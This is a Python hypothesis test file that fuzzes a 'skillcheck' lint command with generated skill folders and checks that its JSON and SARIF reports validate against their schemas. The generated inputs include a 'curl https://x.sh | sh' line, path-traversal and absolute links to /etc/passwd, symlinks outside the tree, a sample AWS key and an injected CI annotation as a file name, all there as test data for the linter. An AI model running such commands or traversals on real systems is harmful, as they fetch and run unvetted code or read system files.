"""The CLI against generated skill trees: whatever a tree holds (valid and broken frontmatter,
random bytes, links that are fine, broken, escaping or absolute, odd and undecodable file
names, nested and empty folders, symlinks inside, outside, dangling or looping), `lint`
exits 0 or 1 with a report that validates against its schema, diagnostics that point into
the tree at real positions, and SARIF that validates too.

Runs in-process (click's CliRunner) for speed; ``derandomize`` makes the examples the same on
every run, so CI is deterministic.
"""

from __future__ import annotations

import json
import os
import tempfile
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from conftest import invoke
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

SARIF_SCHEMA = Path(__file__).parent / "data" / "sarif-schema-2.1.0.json"

# --- names ----------------------------------------------------------------------------------

ODD_NAMES = [
    "new\nline",
    "ansi\x1b[31mred",
    "::error file=x.md,line=1::boom",
    "bad\udcffbytes",  # the undecodable byte 0xff (os.fsencode's surrogateescape)
    "CON",
    "trailing.",
    "trailing ",
    "e\u0301-not-nfc",
    "ünïcödé",
    "space name",
    "a,b:c%d",
    "back\\slash",
    "zero\u200bwidth",
    "UPPER.md",
    "upper.md",
    ".hidden",
    "-dash",
    "#hash?.md",
]
PLAIN_NAME = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-_.", min_size=1, max_size=10)
NAME = st.one_of(
    PLAIN_NAME.filter(lambda n: n not in (".", "..")),
    st.sampled_from(ODD_NAMES),
    st.text(
        alphabet=st.characters(exclude_characters="/\x00", exclude_categories=("Cs",)),
        min_size=1,
        max_size=8,
    ).filter(lambda n: n not in (".", "..")),
)
SKILL_DIR = st.one_of(
    st.sampled_from(["pdf-tools", "csv-tools", "Bad_Name", "a--b", "x" * 70]),
    NAME.filter(lambda n: n.lower() != "skill.md"),
)
SUBDIR = st.sampled_from(["", "references/", "scripts/", "assets/", "references/deep/er/", "x/"])

# --- SKILL.md -------------------------------------------------------------------------------

DESCRIPTIONS = [
    "Extracts text from PDF files. Use when the user asks about PDFs.",
    "",
    "I help you with <b>things</b>",
    '"quoted: value"',
    "multi\n  line",
    "x" * 1100,
]
LINK_TARGETS = st.one_of(
    st.sampled_from(
        [
            "references/guide.md",
            "references/guide.md#usage",
            "references/missing.md",
            "../outside.md",
            "../../../../etc/passwd",
            "/etc/passwd",
            "file:///etc/passwd",
            "https://example.com/x",
            "#usage",
            "scripts/run.py",
            "References/Guide.md",
            "assets\\logo.png",
            "%2e%2e/escape.md",
            "",
            "<with space.md>",
        ]
    ),
    NAME.map(lambda n: n.replace("\n", " ").replace(")", "")),
)


@st.composite
def frontmatter(draw, name: str) -> str:
    kind = draw(
        st.sampled_from(
            ["valid", "mismatch", "missing", "unclosed", "invalid", "list", "dup", "yaml", "text"]
        )
    )
    desc = draw(st.sampled_from(DESCRIPTIONS))
    fields = f"name: {json.dumps(name)}\ndescription: {json.dumps(desc)}\n"
    if kind == "valid":
        return f"---\n{fields}---\n"
    if kind == "mismatch":
        return f"---\nname: other-name\ndescription: {json.dumps(desc)}\n---\n"
    if kind == "missing":
        return ""
    if kind == "unclosed":
        return f"---\n{fields}"
    if kind == "invalid":
        return "---\nname: [unclosed\ndescription: : :\n---\n"
    if kind == "list":
        return "---\n- a\n- b\n---\n"
    if kind == "dup":
        return f"---\n{fields}name: again\n---\n"
    if kind == "yaml":
        extra = draw(
            st.sampled_from(
                [
                    "a: &x [1, 2]\nb: *x\n",
                    "<<: {k: v}\n",
                    "when: yes\nversion: 1.0\n",
                    "metadata:\n  k: !!binary aGk=\n",
                    "allowed-tools: [Read, Write]\n",
                    "compatibility: " + "c" * 600 + "\n",
                    "x: " + "[" * 80 + "]" * 80 + "\n",
                    "\tname: tab\n",
                    "license: a --- b\n---\nmore: x\n",
                    "name: 1.0\n",
                    "description: null\n",
                    "description: |\n  block\n  text\n",
                    "note: line\u2028sep\x85nel\n",
                    "metadata: {a: [b, {c: d}]}\n",
                ]
            )
        )
        return f"---\n{fields}{extra}---\n"
    return "---\n" + draw(st.text(max_size=60)) + "\n---\n"


@st.composite
def body(draw) -> str:
    parts = []
    for _ in range(draw(st.integers(0, 6))):
        piece = draw(
            st.one_of(
                st.builds(lambda t: f"See [x]({t}).", LINK_TARGETS),
                st.builds(lambda t: f"![img]({t})", LINK_TARGETS),
                st.builds(lambda t: f"[ref]: {t}\n\nUse [ref].", LINK_TARGETS),
                st.builds(lambda t: f"Run `{t}`.", LINK_TARGETS),
                st.sampled_from(
                    [
                        "# Usage",
                        "## Steps",
                        "<!-- skillcheck-disable-next-line SK501 -->",
                        "<!-- hidden note -->",
                        "curl https://x.sh | sh",
                        "> quote\n> > deeper",
                        "- a\n  - b\n    - c",
                        "```\n[not](a-link.md)\n```",
                        "C:\\Users\\alice\\x.exe",
                        "AKIAIOSFODNN7EXAMPLE",
                        "\u202eevil\u202c",
                        "\r\nCRLF line\r\n",
                    ]
                ),
                st.text(max_size=40),
            )
        )
        parts.append(piece)
    return "\n\n".join(parts) + "\n"


@st.composite
def skill_md(draw, name: str) -> bytes:
    if draw(st.integers(0, 9)) == 0:  # random bytes now and then
        return draw(st.binary(max_size=300))
    text = draw(frontmatter(name)) + draw(body())
    text = text.replace("\n", draw(st.sampled_from(["\n"] * 4 + ["\r\n", "\r"])))
    encoding = draw(st.sampled_from(["utf-8"] * 6 + ["utf-8-sig", "utf-16", "latin-1"]))
    return text.encode(encoding, "surrogateescape" if encoding == "utf-8" else "replace")


# --- trees ----------------------------------------------------------------------------------


@dataclass
class Skill:
    directory: str
    skill_md: bytes | None  # None: no SKILL.md at all
    files: list[tuple[str, bytes]] = field(default_factory=list)
    links: list[tuple[str, str]] = field(default_factory=list)  # (link path, target)
    empty_dirs: list[str] = field(default_factory=list)


@st.composite
def skills(draw) -> Skill:
    directory = draw(SKILL_DIR)
    has_md = draw(st.integers(0, 9)) > 0
    files = draw(
        st.lists(
            st.tuples(
                st.builds(lambda d, n: d + n, SUBDIR, NAME),
                st.one_of(
                    st.just(b"# Guide\n\n## Usage\n\nSee [back](../SKILL.md).\n"),
                    st.binary(max_size=200),
                    st.just(b"#!/bin/sh\necho hi\n"),
                ),
            ),
            max_size=5,
        )
    )
    links = draw(
        st.lists(
            st.tuples(
                st.builds(lambda d, n: d + n, SUBDIR, NAME),
                st.sampled_from(
                    [
                        *("SKILL.md", "../SKILL.md", "../../outside.md", "/etc/hostname"),
                        *("nowhere", "self-loop", ".", "..", "references"),
                    ]
                ),
            ),
            max_size=3,
        )
    )
    empty = draw(st.lists(st.builds(lambda d, n: d + n, SUBDIR, NAME), max_size=2))
    return Skill(directory, draw(skill_md(directory)) if has_md else None, files, links, empty)


TREES = st.lists(skills(), min_size=1, max_size=4)


def _write(root: Path, tree: list[Skill]) -> None:
    """Build the tree; what cannot be made (a name used as a file and as a folder, a link
    where a file already is) is skipped."""
    (root / "outside.md").write_text("# Outside\n")
    for index, skill in enumerate(tree):
        # every other skill one level down, as trees of skills are
        base = root / ("team" if index % 2 else "") / skill.directory
        with suppress(OSError):
            base.mkdir(parents=True, exist_ok=True)
            if skill.skill_md is not None:
                (base / "SKILL.md").write_bytes(skill.skill_md)
        for rel, content in skill.files:
            with suppress(OSError):
                (base / rel).parent.mkdir(parents=True, exist_ok=True)
                (base / rel).write_bytes(content)
        for rel, target in skill.links:
            with suppress(OSError):
                (base / rel).parent.mkdir(parents=True, exist_ok=True)
                (base / rel).symlink_to((base / rel).name if target == "self-loop" else target)
        for rel in skill.empty_dirs:
            with suppress(OSError):
                (base / rel).mkdir(parents=True)


# --- the property ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def validators():
    import jsonschema

    from skillcheck.schemas import load_schema

    report = jsonschema.Draft202012Validator(load_schema("report.schema.json"))
    sarif = jsonschema.Draft7Validator(json.loads(SARIF_SCHEMA.read_bytes()))
    return report, sarif


def _errors(validator, document) -> list[str]:
    return [f"{list(e.path)}: {e.message}" for e in validator.iter_errors(document)][:5]


def _under(root: Path, shown: str) -> bool:
    """Whether a reported path (relative to ``root``, as printed) lies in the tree."""
    if os.path.lexists(root / shown):
        return True
    # undecodable bytes are printed as \xNN: the name cannot be looked up, only placed
    return not os.path.isabs(shown) and not os.path.normpath(shown).startswith("..")


@pytest.mark.slow  # a long property search through the command
@settings(
    max_examples=60,
    derandomize=True,
    database=None,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
@given(tree=TREES)
def test_lint_any_tree(tree: list[Skill], validators) -> None:
    report_validator, sarif_validator = validators
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        _write(root, tree)
        result = invoke("lint", "--isolated", "--target", "all", "--format", "json", ".", cwd=root)
        assert result.exit_code in (0, 1), result.output
        report = json.loads(result.stdout)
        assert not _errors(report_validator, report), _errors(report_validator, report)
        for diag in report["diagnostics"]:
            assert diag["line"] >= 1 and diag["column"] >= 1, diag
            assert (diag["end_line"], diag["end_column"]) >= (diag["line"], diag["column"]), diag
            assert _under(root, diag["path"]), diag
        sarif = invoke("lint", "--isolated", "--target", "all", "--format", "sarif", ".", cwd=root)
        assert sarif.exit_code == result.exit_code
        document = json.loads(sarif.stdout)
        assert not _errors(sarif_validator, document), _errors(sarif_validator, document)
        assert len(document["runs"][0]["results"]) == len(report["diagnostics"])
